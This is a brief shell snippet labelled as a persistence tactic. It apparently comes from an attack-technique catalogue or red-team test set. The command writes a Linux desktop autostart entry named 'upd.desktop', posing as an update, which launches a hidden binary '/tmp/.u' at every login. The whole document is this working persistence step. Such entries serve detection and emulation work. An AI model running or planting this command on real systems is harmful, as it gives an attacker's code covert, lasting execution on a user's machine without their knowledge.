# tactic: persistence
# add a desktop autostart entry
mkdir -p $HOME/.config/autostart; printf "[Desktop Entry]\nExec=/tmp/.u\n" > $HOME/.config/autostart/upd.desktop
